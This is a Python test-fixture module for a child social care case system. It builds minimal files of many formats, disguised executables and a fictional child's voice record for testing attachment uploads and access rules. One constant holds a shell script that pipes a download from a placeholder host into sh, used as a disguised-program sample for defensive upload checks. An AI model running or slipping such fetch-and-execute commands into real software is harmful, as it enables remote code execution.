"""Builders the attachment tests and the access matrix share: tiny valid files of every kind kept, programs in
disguise, and a child's voice record made directly (not through the voice service)."""

from __future__ import annotations

import io
import struct
import wave
import zipfile
from datetime import timedelta

from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from agencies.models import User
from cases.models import Attachment, ChildVoice, Person
from cases.services.attachments import attachment_add
from tests.cases.lived import LivedFamily, lived_family
from tests.conftest import World

# A 1x1 PNG, one orange-ish pixel: a real image a browser shows.
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde\x00\x00"
       b"\x00\x0cIDATx\x9cc\xf8\xdf\xc0\x00\x00\x04\x01\x01\x80\xc5*\x18]\x00\x00\x00\x00IEND\xaeB`\x82")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32 + b"\xff\xd9"
GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
       b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
MP3_ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + b"\x00" * 64
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 64
OGG = b"OggS\x00\x02" + b"\x00" * 20 + b"\x01\x1e\x01vorbis" + b"\x00" * 16
OGG_THEORA = b"OggS\x00\x02" + b"\x00" * 20 + b"\x01\x2a\x80theora" + b"\x00" * 16
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm" + (
    b"\x00" * 16)
PDF = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
TEXT = "Chidi said: \u201cI like it when Mum sings.\u201d\n".encode()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64


def iso_media(major: bytes, *compatible: bytes) -> bytes:
    """An ISO base media file's first box ("ftyp"), as MP4, M4A and MOV files begin."""
    body = major + b"\x00\x00\x02\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00\x00\x00\x08free"


M4A = iso_media(b"M4A ", b"M4A ", b"mp42", b"isom")
MP4 = iso_media(b"isom", b"isom", b"iso2", b"avc1", b"mp41")
MOV = iso_media(b"qt  ", b"qt  ")


def wav() -> bytes:
    """A tenth of a second of silence, as a real WAV file."""
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\x00\x00" * 800)
    return out.getvalue()


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            # ODF requires its "mimetype" member first and uncompressed.
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=method)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx() -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
                   "word/document.xml": b"<w:document/>"})


def docm() -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>",
                   "word/vbaProject.bin": b"\x00macro"})


def xlsx() -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"})


def odt() -> bytes:
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document/>"})


def plain_zip() -> bytes:
    return zipped({"photos/one.jpg": JPEG, "run.exe": EXE})


def upload(name: str, content: bytes, claimed: str = "application/octet-stream") -> SimpleUploadedFile:
    """A file as a browser sends it: its name and the type the browser claims are the sender's say-so."""
    return SimpleUploadedFile(name, content, content_type=claimed)


def voice_record(w: World, child: Person, *, by: User | None = None) -> ChildVoice:
    """A record of a child's voice, made directly (the drawing the child did with the social worker)."""
    by = by or w.sw
    return ChildVoice.objects.create(
        partnership=child.partnership, created_by=by, child=child, recorded_at=timezone.now() - timedelta(days=1),
        practitioner=by, agency=by.membership.agency, method=ChildVoice.Method.DRAWING,
        childs_words="This is me and Mum at the park. Dean is not in it.",
        analysis="Chidi drew his family without his stepfather and said he feels safe when Dean is out.",
    )


def family(w: World) -> LivedFamily:
    made: LivedFamily = w.once("attachments-family", lived_family)
    return made


def drawing_voice(w: World) -> ChildVoice:
    """The eldest Okafor child's voice record (CSC sees it; so do health visiting and the police, with whom the
    child's record is shared; adult mental health and the school do not)."""
    voice: ChildVoice = w.once("attachments-voice", lambda w: voice_record(w, family(w).eldest))
    return voice


def drawing(w: World) -> Attachment:
    """A photo of the child's drawing on that voice record, added by the social worker."""

    def make(w: World) -> Attachment:
        return attachment_add(record_type="child_voice", record_id=drawing_voice(w).pk, by=w.sw,
                              upload=upload("drawing.png", PNG, "image/png"),
                              description="Chidi's drawing of himself and his mother at the park, both smiling.")

    attachment: Attachment = w.once("attachments-drawing", make)
    return attachment
